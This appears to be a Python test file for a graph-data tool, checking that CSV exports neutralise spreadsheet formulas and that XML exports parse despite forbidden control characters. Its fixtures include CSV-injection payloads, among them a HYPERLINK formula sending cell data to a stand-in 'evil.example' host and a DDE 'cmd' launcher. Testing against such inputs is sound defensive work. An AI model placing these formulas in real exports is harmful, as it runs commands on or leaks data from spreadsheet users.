"""Safe exports: no spreadsheet formula in a CSV cell, and XML exports that parse whatever a store holds.

Hostile text is written straight through the store API (bypassing the checks of an import or an
edit, as data already in a store, or written by an older version, would be), on both stores; then
every export format is parsed back: JSON, GraphML with `networkx.read_graphml`, GEXF with
`networkx.read_gexf`, and the CSV folder with the import reader (and imported, when the text is
importable). See docs/import-format.md#export.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import networkx as nx
import pytest

from partnergraph.config import Settings
from partnergraph.io.export import (
    FORMATS,
    FORMULA_STARTS,
    neutralise_cell,
    restore_cell,
    to_json,
    to_networkx,
    write_csv_folder,
    xml_safe,
)
from partnergraph.io.reader import read_rows
from partnergraph.model import Connection, Dataset, Element, Kind, RelType
from partnergraph.services import Workspace
from partnergraph.services.options import MetricsQuery

# Formulas a spreadsheet would run, in every field an export writes: ids (and so the ends of
# connections), names, properties, list items. All of them importable.
FORMULA_ELEMENTS = [
    Element("=1+1", Kind.PARTNER, '=HYPERLINK("https://evil.example/?"&A1,"click")',
            {"region": "+Europe", "status": "active", "public": True, "notes": "-2+3", "tags": ["=x", "y"],
             "website": "@SUM(A1)", "type": "=cmd|' /C calc'!A0"}),
    Element("-minus", Kind.CONTACT, "+SUM(1,2)", {"email": "=a@example.org", "role": "@role", "phone": "+49 30 1"}),
    Element("@at", Kind.CONTACT, "'=already quoted", {"notes": "''-two quotes", "role": "'plain quote"}),
    Element("aff", Kind.AFFILIATE, "Plain name", {"public": True, "region": "-", "notes": "'"}),
    Element("iss", Kind.ISSUE, "=issue", {}),
]
FORMULA_CONNECTIONS = [
    Connection("-minus", "@at", RelType.KNOWS, {"strength": 3, "source": "@evil", "notes": "=1"}),
    Connection("-minus", "=1+1", RelType.HOLDS, {"source": "+met", "since": "2020-01"}),
    Connection("aff", "=1+1", RelType.PARTNERS_WITH, {"status": "active", "notes": "-x"}),
    Connection("=1+1", "iss", RelType.WORKS_ON, {}),
]

# What XML 1.0 forbids (and a few it allows), as a store may hold it.
NOT_XML = "\x01\x08\x0b\x0c\x0e\x1f\ufffe\uffff"
XML_ELEMENTS = [
    Element("bad\x01id", Kind.PARTNER, f"Bell\x07 {NOT_XML} ok\t\n\r\x7f", {"notes": f"n{NOT_XML}", "public": True,
                                                                           "tags": ["a\x02", "b\ufffe"]}),
    Element("fine", Kind.AFFILIATE, "Fine \U0001f600 名前", {"public": True, "region": "\x1bEurope"}),
    Element("x\uffffy", Kind.CONTACT, "Person\x00 zero", {"email": "\x0c@example.org"}),
]
XML_CONNECTIONS = [
    Connection("fine", "bad\x01id", RelType.PARTNERS_WITH, {"status": "active", "notes": "\x03\uffff"}),
    Connection("x\uffffy", "bad\x01id", RelType.HOLDS, {"source": "\x10", "strength": 2}),
]


def out_path(tmp_path: Path, fmt: str, name: str = "export") -> Path:
    return tmp_path / (name if fmt == "csv" else f"{name}.{fmt}")


def csv_cells(folder: Path) -> list[str]:
    cells = []
    for name in ("elements.csv", "connections.csv"):
        with open(folder / name, encoding="utf-8", newline="") as handle:
            cells.extend(cell for row in csv.reader(handle) for cell in row)
    return cells


# -- the convention --------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "'=x", "''@x", "'''-",
                                  "'", "''", "'x", "", "x=1", "a-b", "1", " =x", "\n=x", "=", "-"])
def test_a_neutralised_cell_reads_back_as_the_same_text(text):
    cell = neutralise_cell(text)
    assert restore_cell(cell) == text
    assert not cell.startswith(FORMULA_STARTS)
    if text.startswith(FORMULA_STARTS):
        assert cell == "'" + text


def test_a_cell_that_was_never_neutralised_reads_as_it_is():
    for text in ("'plain", "'", "''", "x'=", "'\n=x"):
        assert restore_cell(text) == text


def test_xml_safe_replaces_only_what_xml_forbids():
    assert xml_safe("a\x00b\x1f\ufffe\uffff\ud800c") == "a\ufffdb\ufffd\ufffd\ufffd\ufffdc"
    assert xml_safe("tab\tnl\ncr\r del\x7f \ue000 \U0001f600") == "tab\tnl\ncr\r del\x7f \ue000 \U0001f600"
    assert xml_safe(3) == 3 and xml_safe(True) is True


# -- formulas --------------------------------------------------------------------------------------


def test_no_csv_cell_starts_a_formula_and_the_export_round_trips(workspace, tmp_path):
    workspace.store.upsert(Dataset(list(FORMULA_ELEMENTS), list(FORMULA_CONNECTIONS)))
    workspace.data.export("csv", tmp_path / "first")
    workspace.data.export("json", tmp_path / "before.json")
    cells = csv_cells(tmp_path / "first")
    assert "'=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")" in cells and "'-minus" in cells
    assert "'''-two quotes" in cells and "'plain quote" in cells and "'" in cells
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []
    with Workspace.open(Settings(db=str(tmp_path / "fresh.db"))) as fresh:
        fresh.data.import_path(tmp_path / "first")
        fresh.data.export("csv", tmp_path / "second")
        fresh.data.export("json", tmp_path / "after.json")
        assert fresh.store.get("@at").name == "'=already quoted"
        assert fresh.store.get("@at").props["notes"] == "''-two quotes"
        assert fresh.store.get("=1+1").props["tags"] == ["=x", "y"]
    for name in ("elements.csv", "connections.csv"):
        assert (tmp_path / "first" / name).read_bytes() == (tmp_path / "second" / name).read_bytes()
    assert (tmp_path / "before.json").read_text() == (tmp_path / "after.json").read_text()


def test_a_public_csv_export_and_a_metrics_file_carry_no_formula(workspace, tmp_path):
    workspace.store.upsert(Dataset(list(FORMULA_ELEMENTS), list(FORMULA_CONNECTIONS)))
    workspace.data.export("csv", tmp_path / "public", public=True)
    cells = csv_cells(tmp_path / "public")
    assert "'=1+1" in cells and [c for c in cells if c.startswith(FORMULA_STARTS)] == []
    workspace.data.export_metrics("csv", tmp_path / "metrics.csv", MetricsQuery())
    with open(tmp_path / "metrics.csv", encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert {r["id"] for r in rows} == {"'=1+1", "'-minus", "'@at", "aff", "iss"}
    assert all(not v.startswith(FORMULA_STARTS) for r in rows for v in r.values())
    assert all(float(r["degree"]) >= 0 for r in rows)  # numbers stay numbers


# -- text XML forbids ----------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
def test_every_export_parses_after_text_xml_forbids(workspace, tmp_path, fmt):
    workspace.store.upsert(Dataset(list(XML_ELEMENTS), list(XML_CONNECTIONS)))
    path = out_path(tmp_path, fmt)
    workspace.data.export(fmt, path)
    stored = {e.id: e for e in workspace.store.snapshot().elements}
    if fmt == "json":  # lossless: the same text comes back
        document = json.loads(path.read_text(encoding="utf-8"))
        assert {e["id"]: e["name"] for e in document["elements"]} == {i: e.name for i, e in stored.items()}
        elements, connections = read_rows(path)
        assert len(elements) == 3 and len(connections) == 2
    elif fmt == "csv":  # the reader gives back the cells as stored
        elements, connections = read_rows(path)
        assert {r.values["id"]: r.values["name"] for r in elements} == {i: e.name for i, e in stored.items()}
        assert len(connections) == 2
    else:
        graph = nx.read_graphml(path) if fmt == "graphml" else nx.read_gexf(path)
        assert graph.number_of_nodes() == 3 and graph.number_of_edges() == 2
        # (XML parsers may read a carriage return in text as a newline: XML's own end-of-line rule.)
        names = {n: d["name"].replace("\r", "\n") for n, d in graph.nodes(data=True)}
        assert names == {xml_safe(i): xml_safe(e.name).replace("\r", "\n") for i, e in stored.items()}
        assert names["fine"] == "Fine \U0001f600 名前"
        assert "\ufffd" in names["bad\ufffdid"] and "\t" in names["bad\ufffdid"]
        assert graph.nodes["bad\ufffdid"]["notes"] == "n" + "\ufffd" * len(NOT_XML)


@pytest.mark.parametrize("fmt", ["graphml", "gexf", "csv", "json"])
def test_every_metrics_file_parses_after_text_xml_forbids(workspace, tmp_path, fmt):
    workspace.store.upsert(Dataset(list(XML_ELEMENTS), list(XML_CONNECTIONS)))
    path = tmp_path / f"metrics.{fmt}"
    workspace.data.export_metrics(fmt, path, MetricsQuery())
    if fmt == "graphml":
        assert nx.read_graphml(path).number_of_nodes() == 3
    elif fmt == "gexf":
        assert nx.read_gexf(path).number_of_nodes() == 3
    elif fmt == "json":
        assert len(json.loads(path.read_text(encoding="utf-8"))["elements"]) == 3
    else:
        with open(path, encoding="utf-8", newline="") as handle:
            assert len(list(csv.DictReader(handle))) == 3


def test_lone_surrogates_no_store_keeps_still_export(tmp_path):
    """Neither store can hold a lone surrogate, but the writers do not count on it."""
    elements = [Element("s\ud800", Kind.PARTNER, "half \udfff pair", {"notes": "\udbff"})]
    connections = [Connection("s\ud800", "s\ud800", RelType.WORKS_ON, {"notes": "\ud800x"})]
    document = json.loads(to_json(elements, connections))  # escaped: the same text comes back
    assert document["elements"][0]["name"] == "half \udfff pair"
    to_json(elements, connections).encode("utf-8")
    write_csv_folder(tmp_path / "csv", [e.to_dict() for e in elements], [c.to_dict() for c in connections])
    rows, _ = read_rows(tmp_path / "csv")
    assert rows[0].values["name"] == "half \ufffd pair"
    for write, read in ((nx.write_graphml, nx.read_graphml), (nx.write_gexf, nx.read_gexf)):
        path = tmp_path / "graph.xml"
        write(to_networkx(elements, connections), path)
        assert read(path).nodes["s\ufffd"]["name"] == "half \ufffd pair"
